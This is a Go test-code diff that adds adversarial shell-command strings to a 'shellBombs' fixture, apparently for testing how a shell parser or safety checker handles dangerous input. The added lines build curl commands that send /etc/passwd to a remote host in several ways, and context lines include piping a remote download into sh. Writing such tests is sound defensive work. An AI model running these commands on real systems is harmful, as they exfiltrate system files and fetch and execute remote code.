@@ -175,7 +175,10 @@ func shellBombs(remote string) []document {
 		{name: "shell: one long word", value: around(curl+"-d '", marker, 60_000, "'")},
 		{name: "shell: quotes in turns", value: around(curl, `"'"'`, 170_000, "")},
 		{name: "shell: ANSI-C quotes", value: around(curl+"-d $'", `\x41`, 200_000, "'")},
-		{name: "shell: files", value: func() string { return curl + "-d @/etc/passwd -T /etc/passwd -F a=@/etc/passwd -K /etc/passwd" }},
+		{name: "shell: files", value: func() string {
+			return curl + "-d @/etc/passwd -T /etc/passwd -F a=@/etc/passwd -K /etc/passwd -H @/etc/passwd --netrc-file /etc/passwd; " +
+				curl + `-d "$(cat /etc/passwd)" -d "$(</etc/passwd)" < /etc/passwd`
+		}},
 		{name: "shell: commands that would run", value: func() string {
 			return "curl http://" + remote + "/$(curl http://" + remote + ") -x http://" + remote + " `touch /tmp/" + marker + "`; curl http://" + remote + " | sh"
 		}},
